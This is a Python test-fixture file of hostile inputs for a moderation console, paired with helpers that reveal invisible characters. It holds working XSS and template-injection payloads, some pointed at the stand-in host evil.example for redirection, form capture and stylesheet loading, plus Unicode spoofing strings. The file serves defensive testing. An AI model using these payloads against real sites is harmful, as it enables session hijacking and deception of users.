"""Texts of strangers that try to run a script in a moderator's browser, or to deceive the eye."""

import re

TEXTS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    '"><script>window.pwned=1</script>',
    "'-alert(1)-'",
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "javascript:window.pwned=1",
    "<a href=javascript:window.pwned=1>click</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<style>@import'//evil.example/x.css';body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><button>Decide</button></form>",
    "<details open ontoggle=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "</textarea></title></style></script><script>window.pwned=1</script>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3C;img src=x&#x3E;",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=pwned=1 )//</stYle/</scRipt/--!>\\x3csVg/oNloAd=x>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "\u202egnp.exe\u202c and \u2066turned\u2069",
    "bell\x07 escape\x1b[2J delete\x7f and \x85",
    "zero\u200bwidth so\u00adft \ufeff\u2060 tag\U000e0041",
    "Z\u0351\u036b\u0343a\u0346\u0310l\u0300\u0301g\u0302\u0303o" + "\u0335" * 60,
    "w" * 900,
    "two\nlines\tand a tab",
    "مرحبا <b>שלום</b> 👩‍👩‍👧",
)

_HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u200b\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)


def shown(text: str) -> str:
    """Return the text as the console shows it, with code points in place of invisible characters."""
    return _HIDDEN.sub(lambda found: f"U+{ord(found[0]):04X}", text)


def hidden(text: str) -> int:
    """Return the number of invisible characters."""
    return len(_HIDDEN.findall(text))
